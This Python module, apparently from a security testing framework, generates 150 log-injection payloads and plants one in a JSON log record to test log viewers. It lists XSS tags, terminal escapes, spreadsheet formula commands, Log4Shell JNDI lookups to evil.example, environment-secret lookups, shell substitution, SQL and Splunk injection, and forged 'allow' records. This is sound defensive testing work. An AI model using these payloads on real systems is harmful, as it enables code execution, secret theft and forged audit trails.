"""Text in a log's fields that acts on whoever looks at it: see `InjectLines`."""

from __future__ import annotations

import json
from dataclasses import dataclass, replace
from random import Random
from typing import ClassVar

from hauberk.core.artifact import LogSegment
from hauberk.core.attack import Attacked, Transform
from hauberk.core.threat import ThreatId

CANARY = "data-hit-"
"""Attribute of the page's root that a payload sets when it runs, with its number behind it."""

_FAKE = '{"kind":"decision","at":1,"principal":"admin","action":"allow","rule":""}'
_BREAKS = ("\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1e", "\x00\n")
_ESCAPES = (
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1b[1A\x1b[2K",
    "\x9b31m",
    "\x1bP$q\x1b\\",
    "\x1b[8m",
    "\x08\x08\x08\x08",
    "\x1b[?1049h",
    "\x1b]52;c;ZXZpbA==\x07",
)
_TAGS = (
    "<script>{js}</script>",
    '<img src=x onerror="{js}">',
    '<svg onload="{js}">',
    '<details open ontoggle="{js}">',
    '<body onload="{js}">',
    "</code><script>{js}</script>",
    '"><script>{js}</script>',
    "'><img src=x onerror='{js}'>",
    "</title><script>{js}</script>",
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    '<input autofocus onfocus="{js}">',
    '<video><source onerror="{js}"></video>',
    "</style><script>{js}</script>",
    "--><script>{js}</script>",
    "<ScRiPt>{js}</ScRiPt>",
)
_FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "|", "%", "\uff1d", "\uff0b")
_COMMANDS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', "1+1")
_BIDI = tuple("\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c")
_LOOKUPS = (
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:rmi://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "{{7*7}}{{config}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%{(#a=@java.lang.Runtime@getRuntime())}",
    "$(touch /tmp/owned)",
    "`touch /tmp/owned`",
    "; DROP TABLE logs; --",
    "' OR '1'='1",
    '" | delete index=main | "',
    "| outputlookup owned.csv",
    "[click](javascript:alert(1))",
    "[x](http://evil.example) ![y](http://evil.example/z.png)",
)
_BREAKOUTS = (
    '","level":"none","x":"',
    '"}],"results":[],"x":[{"y":"',
    '\\","forged":"yes',
    '"}\n' + _FAKE,
    "\\u0022,\\u0022forged\\u0022:\\u0022",
    "\x1e" + _FAKE,
    '"},{"ruleId":"fake","message":{"text":"',
    "\ud800\udc00\ud800",
    "\ufeff" + _FAKE,
    '"}',
)


def payloads() -> tuple[str, ...]:
    """150 of them: fake lines, escapes, scripts, formulas, directions, lookups, breakouts."""
    found = [f"ok{end}{_FAKE}" for end in _BREAKS]
    found += [f"{escape}approved" for escape in _ESCAPES]
    found += [f"{end}{escape}{_FAKE}" for end, escape in zip(_BREAKS, _ESCAPES, strict=True)]
    scripts = [tag for tag in _TAGS for _ in range(2)]
    found += [
        tag.replace(
            "{js}", f"document.documentElement.setAttribute('{CANARY}{len(found) + i}','1')"
        )
        + (" " * (i % 2))
        for i, tag in enumerate(scripts)
    ]
    found += [f"{mark}{command}" for mark in _FORMULAS for command in _COMMANDS]
    found += [f"{sign}nimda\u202c" for sign in _BIDI] + [f"a{sign}b" * 3 for sign in _BIDI]
    found += list(_LOOKUPS) + list(_BREAKOUTS)
    found += [f"<b>{'A' * 1_000_000}\n{_FAKE}", "\x1b[31m" * 200_000]
    found += [f"x{chr(code)}y\n{_FAKE}" for code in (0, 7, 8, 27, 127, 128, 155, 0xAD, 0x200B)]
    found += [f"{_FORMULAS[i]}{_LOOKUPS[i]}\n<script>" for i in range(150 - len(found))]
    return tuple(found[:150])


@dataclass(frozen=True, slots=True, kw_only=True)
class InjectLines(Transform[LogSegment]):
    """Put text into the fields of decisions that acts on the program that shows them.

    Line ends with a forged record behind them, escapes that redraw a terminal, scripts in
    fifteen places of a page, formulas of a spreadsheet, signs that turn the direction of
    writing, lookups of loggers and query languages, ends of JSON strings, and fields of a
    megabyte.

    References:
        MITRE ATLAS AML.T0077; CWE-117, CWE-150, CWE-1236, CWE-79; OWASP log injection;
        CVE-2021-44228 (lookups); CVE-2021-42574 (directions).
    """

    title: ClassVar[str] = "Inject lines and escapes into a log"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("MO-5"),)
    subject: ClassVar[type] = LogSegment

    field: str = "rule"

    def apply(self, subject: LogSegment, rng: Random) -> Attacked[LogSegment]:
        """The log with one payload in one of its decisions."""
        records = list(subject.records())
        places = [i for i, record in enumerate(records) if record.startswith(b"{")]
        if not places:
            return Attacked(subject=subject)
        place, payload = rng.choice(places), rng.choice(payloads())
        value = json.loads(records[place])
        value[self.field] = payload
        records[place] = json.dumps(value).encode()
        twin = replace(subject, records=lambda: iter(records), heads=(), witnessed=())
        return Attacked(subject=twin, rows=(place,), truth={"payload": payload})
